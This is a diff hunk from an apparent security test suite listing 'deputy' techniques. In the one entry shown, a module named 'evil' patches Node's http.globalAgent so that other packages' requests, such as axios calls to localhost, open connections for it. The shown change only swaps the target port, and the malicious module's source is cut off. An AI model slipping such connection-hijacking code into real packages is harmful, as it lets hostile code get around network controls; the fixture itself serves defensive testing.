@@ -97,7 +97,7 @@ export const DEPUTIES = techniques('field', [
     source: 'own',
     says: "patches http.globalAgent, so that other packages' requests connect for it",
     files: packageOf('axios', '1.13.2', CLIENT),
-    app: `require('evil').run(); require('axios').post('http://127.0.0.1:' + process.env.SINK + '/hello', 'x').catch(() => {});`,
+    app: `require('evil').run(); require('axios').post('http://localhost:9/hello', 'x').catch(() => {});`,
     evil: `const http = require('node:http'), net = require('node:net'); exports.run = () => {
       const { createConnection } = http.globalAgent;
       http.globalAgent.createConnection = function (options, callback) {
